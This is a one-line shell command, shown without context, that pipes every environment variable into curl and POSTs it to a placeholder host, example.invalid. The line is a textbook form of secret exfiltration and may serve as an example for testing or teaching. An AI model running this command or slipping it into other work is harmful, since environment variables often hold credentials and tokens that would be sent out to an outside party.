env | curl -X POST -d @- https://example.invalid/
